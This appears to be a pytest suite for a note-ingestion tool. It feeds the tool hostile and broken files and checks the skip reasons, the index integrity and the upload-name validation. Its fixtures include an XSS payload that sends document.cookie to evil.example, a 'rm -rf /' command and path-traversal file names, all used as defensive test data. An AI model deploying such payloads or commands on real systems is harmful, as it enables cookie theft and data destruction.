"""A table of hostile and broken files: each gets a message naming the file and the
reason, the other notes still ingest, and nothing already indexed is lost."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from studygraph.assistant.library import check_name
from studygraph.errors import NoteError
from studygraph.ingest.chunking import MAX_CHARS, split_note
from studygraph.ingest.manifest import load_manifest
from studygraph.ingest.pipeline import sync
from studygraph.ingest.reading import read_note
from studygraph.ingest.snapshot import load_snapshot
from studygraph.settings import load_settings

ROOT = Path(__file__).resolve().parents[2]
EXE = Path(sys.executable).with_name("studygraph")
GOOD = "# Good note\n\nBeam search keeps the k best partial hypotheses at every step.\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"
HTML = (
    "# Web notes\n\n<script>alert('owned')</script>\n"
    "<img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\">\n"
    "Cross-site scripting runs attacker JavaScript in a victim's browser.\n"
)


def nested_list(depth: int) -> str:
    return "# Deep\n\n" + "\n".join("  " * i + f"- level {i} of a list nested far too deep" for i in range(depth)) + "\n"


@dataclass(frozen=True)
class Case:
    name: str  # file created in the notes folder
    make: Callable[[Path, Path], None]  # (path, outside folder) -> writes the hostile file
    skipped: str = ""  # regex the skip reason must match
    warning: str = ""  # regex a warning must match (the note is ingested)
    max_bytes: int = 20 * 1024 * 1024


def data(content: bytes | str) -> Callable[[Path, Path], None]:
    raw = content.encode("utf-8") if isinstance(content, str) else content
    return lambda path, _outside: path.write_bytes(raw)


def link(to: Callable[[Path, Path], Path]) -> Callable[[Path, Path], None]:
    return lambda path, outside: path.symlink_to(to(path, outside))


def loop(path: Path, _outside: Path) -> None:
    other = path.with_name("loop-partner.md")
    other.symlink_to(path)
    path.symlink_to(other)


def secret(_path: Path, outside: Path) -> Path:
    target = outside / "secret.md"
    target.write_text("# Private diary\n\nNot part of the notes.\n", encoding="utf-8")
    return target


CASES = [
    Case("empty.md", data(b""), skipped=r"^is empty$"),
    Case("blank.md", data(" \n\t\n   \r\n"), skipped=r"^contains only whitespace$"),
    Case("nul.md", data(b"# Title\nsome text\x00\x00 with NUL bytes\n"), skipped=r"^looks binary \(contains NUL bytes\)"),
    Case("photo.md", data(PNG), skipped=r"^looks binary"),
    Case("garbage.md", data(bytes(range(0x80, 0x100)) * 8), skipped=r"^is not UTF-8 text \(\d+ undecodable bytes\) and no other text encoding fits it; convert it to UTF-8$"),
    Case("latin1.md", data("Caf\xe9 au lait. Cr\xe8me br\xfbl\xe9e is a dessert.\n".encode("latin-1")), warning=r"decoded as cp1252 \(not UTF-8; encoding detected by charset-normalizer\)"),
    Case("utf16.md", data("# Dropout\n\nDropout zeroes random activations.\n".encode("utf-16")), warning=r"decoded as UTF-16-LE \(byte-order mark\)"),
    Case("huge.md", data("x" * 5000 + "\n"), skipped=r"^is 5,001 bytes, over the 4,096-byte limit \(STUDYGRAPH_MAX_NOTE_BYTES\)$", max_bytes=4096),
    Case("one-line.md", data(("A long line of tokens without an end. " * 600).strip())),
    Case("nested.md", data(nested_list(400))),
    Case("xss.md", data(HTML)),
    Case("crlf.md", data("# Windows\r\n\r\nLine one ends in CRLF.\r\nA lone CR ends this one.\rLast line.")),
    Case("日本語 ñame.md", data("# Unicode file name\n\nThe name has non-ASCII characters.\n")),
    Case("paper.epub", data(b"PK\x03\x04"), skipped=r"^has the extension \.epub; Studygraph reads \.md, \.markdown, \.txt, \.rst, \.rmd, \.qmd, \.adoc, \.tex, \.rnw, \.html, \.htm, \.pdf, \.ipynb, \.docx, \.pptx files$"),
    Case("paper.pdf", data(b"%PDF-1.7\n"), skipped=r"^is not a readable PDF \("),
    Case("app.html", data(b"<html><body><script>fetch('https://x.example')</script><div id=app></div></body></html>"),
         skipped=r"^shows no text \(an empty page, or one built by scripts\)$"),
    Case("binary.html", data(PNG), skipped=r"^looks binary"),
    Case("latin1.html", data('<html><head><meta charset="iso-8859-1"></head><body><p>Caf\xe9 au lait.</p></body></html>'.encode("latin-1"))),
    Case("drawing.tex", data(b"\\begin{document}\n\\begin{tikzpicture}\n\\draw (0,0) -- (1,1);\n\\end{tikzpicture}\n\\end{document}\n"),
         skipped=r"^has no text outside the LaTeX preamble and markup$"),
    Case("unclosed.tex", data(b"\\section{Open\n\\begin{itemize}\n\\item never closed {\n")),
    Case("script.py", data("import os\nos.system('rm -rf /')\n"), skipped=r"^has the extension \.py;"),
    Case("loop.md", loop, skipped=r"^is a broken link or a symlink loop$"),
    Case("dangling.md", link(lambda p, _o: p.with_name("missing.md")), skipped=r"^is a broken link or a symlink loop$"),
    Case("escape.md", link(secret), skipped=r"^is a link pointing outside "),
    Case("escape-dir", link(lambda _p, o: o), skipped=r"^is a link to a folder outside "),
    Case("pipe.md", lambda p, _o: os.mkfifo(p), skipped=r"^is not a regular file"),
]


def served(home: Path) -> dict[str, list[tuple[str, int, int]]]:
    snapshot = load_snapshot(home)
    out: dict[str, list[tuple[str, int, int]]] = {}
    for c in snapshot.chunks:
        out.setdefault(Path(c.source).name, []).append((c.id, c.start_line, c.end_line))
    return out


@pytest.mark.slow
@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_file(case: Case, tmp_path: Path, studygraph_home: Path, embedder) -> None:
    notes, outside = tmp_path / "notes", tmp_path / "outside"
    notes.mkdir()
    outside.mkdir()
    (notes / "good.md").write_text(GOOD, encoding="utf-8")
    settings = load_settings(max_note_bytes=case.max_bytes)
    sync([notes], settings, embedder)
    before = served(studygraph_home)["good.md"]
    (notes / "later.md").write_text("# Later\n\nLayer normalisation rescales each token's features.\n", encoding="utf-8")
    path = notes / case.name
    case.make(path, outside)

    report = sync([notes], settings, embedder)

    after = served(studygraph_home)
    assert after["good.md"] == before, "an indexed note was lost"
    assert "later.md" in after, "a healthy note was not ingested"
    reasons = [s.reason for s in report.skipped if Path(s.path).name == case.name]
    warnings = [w for w in report.warnings if w.startswith(f"{path}: ")]
    if case.skipped:
        assert len(reasons) == 1 and re.search(case.skipped, reasons[0]), report.skipped
        assert case.name not in after
        assert not any("secret" in c.source or "Private diary" in c.text for c in load_snapshot(studygraph_home).chunks)
        return
    assert reasons == []
    if case.warning:
        assert len(warnings) == 1 and re.search(case.warning, warnings[0]), report.warnings
    assert case.name in after
    assert_exact_lines(path, load_snapshot(studygraph_home).chunks)


def assert_exact_lines(path: Path, chunks) -> None:
    note = read_note(path, 1 << 30)
    lines = note.lines
    mine = [c for c in chunks if c.source == str(path)]
    assert mine
    for c in mine:
        span = "\n".join(lines[c.start_line - 1 : c.end_line])
        assert c.text == span or (c.start_line == c.end_line and c.text in span)
    covered = {i for c in mine for i in range(c.start_line, c.end_line + 1)}
    assert all(i + 1 in covered for i, line in enumerate(lines) if line.strip())


def test_a_note_that_turns_hostile_keeps_its_indexed_version(tmp_path: Path, studygraph_home: Path, embedder) -> None:
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "good.md").write_text(GOOD, encoding="utf-8")
    settings = load_settings()
    sync([notes], settings, embedder)
    before = served(studygraph_home)
    (notes / "good.md").write_bytes(PNG)
    report = sync([notes], settings, embedder)
    assert [(Path(s.path).name, s.reason.split(" (")[0]) for s in report.skipped] == [("good.md", "looks binary")]
    assert served(studygraph_home) == before and not report.removed


def test_a_note_emptied_by_the_student_leaves_the_index(tmp_path: Path, studygraph_home: Path, embedder) -> None:
    """Nothing of it is left to cite: keeping its chunks would quote lines the file no longer has."""
    notes = tmp_path / "notes"
    notes.mkdir()
    settings = load_settings()
    for emptied, reason in ((b"", "is empty"), (b"\n \n", "contains only whitespace")):
        (notes / "good.md").write_text(GOOD, encoding="utf-8")
        sync([notes], settings, embedder)
        assert served(studygraph_home)
        (notes / "good.md").write_bytes(emptied)
        report = sync([notes], settings, embedder)
        assert [(Path(s.path).name, s.reason) for s in report.skipped] == [("good.md", reason)]
        assert report.removed == (str(notes / "good.md"),) and served(studygraph_home) == {}


def test_html_and_script_are_stored_and_returned_as_plain_text(tmp_path: Path, studygraph_home: Path, embedder) -> None:
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "xss.md").write_text(HTML, encoding="utf-8")
    sync([notes], load_settings(), embedder)
    env = {**os.environ, "STUDYGRAPH_HOME": str(studygraph_home), "HF_HUB_OFFLINE": "1"}
    result = subprocess.run([str(EXE), "search", "alert owned script", "--mode", "bm25", "--json"], cwd=ROOT, env=env,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    top = json.loads(result.stdout)["hits"][0]
    assert "<script>alert('owned')</script>" in top["text"]
    assert "onerror=\"fetch('http://evil.example/'+document.cookie)\"" in top["text"]


def test_a_line_of_megabytes_is_cut_into_exact_slices(tmp_path: Path) -> None:
    path = tmp_path / "long.md"
    line = "Tokens follow tokens and no sentence ever seems to end here " * 50_000  # 3 MB
    path.write_text(line, encoding="utf-8")
    chunks = split_note(read_note(path, 20 * 1024 * 1024))
    assert "".join(c.text for c in chunks) == line
    assert all(c.start_line == c.end_line == 1 and len(c.text) <= MAX_CHARS for c in chunks)
    assert len({c.id for c in chunks}) == len(chunks)


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("../escape.md", "points outside the notes folder"),
        ("/etc/cron.d/job.md", "is an absolute path"),
        ("C:\\Windows\\notes.md", "is an absolute path"),
        ("sub/dir.md", "contains a folder separator"),
        ("bell\x07.md", "contains control characters"),
        ("new\nline.md", "contains control characters"),
        ("rtl\u202egnp.md", "contains control characters"),
        (".bashrc.md", "starts with a dot"),
        ("notes.exe", "has the extension .exe"),
    ],
)
def test_upload_names_cannot_leave_the_notes_folder(name: str, reason: str) -> None:
    with pytest.raises(NoteError, match=re.escape(reason)):
        check_name(name)


@pytest.mark.slow
def test_the_command_line_names_every_refused_file(tmp_path: Path, studygraph_home: Path) -> None:
    notes, outside = tmp_path / "notes", tmp_path / "outside"
    notes.mkdir()
    outside.mkdir()
    (notes / "good.md").write_text(GOOD, encoding="utf-8")
    for case in CASES:
        if case.skipped and case.max_bytes == CASES[0].max_bytes:
            case.make(notes / case.name, outside)
    env = {**os.environ, "STUDYGRAPH_HOME": str(studygraph_home), "HF_HUB_OFFLINE": "1"}
    result = subprocess.run([str(EXE), "ingest", str(notes)], cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.startswith("skipped ")]
    for case in CASES:
        if case.skipped and case.max_bytes == CASES[0].max_bytes:
            pattern = rf"^skipped {re.escape(str(notes / case.name))}: " + case.skipped.lstrip("^")
            assert any(re.search(pattern, line) for line in lines), (case.name, lines)
    assert result.stdout.startswith("1 added, 0 updated, 0 removed, 0 unchanged;")
    assert list(load_manifest(studygraph_home).notes) == [str(notes / "good.md")]
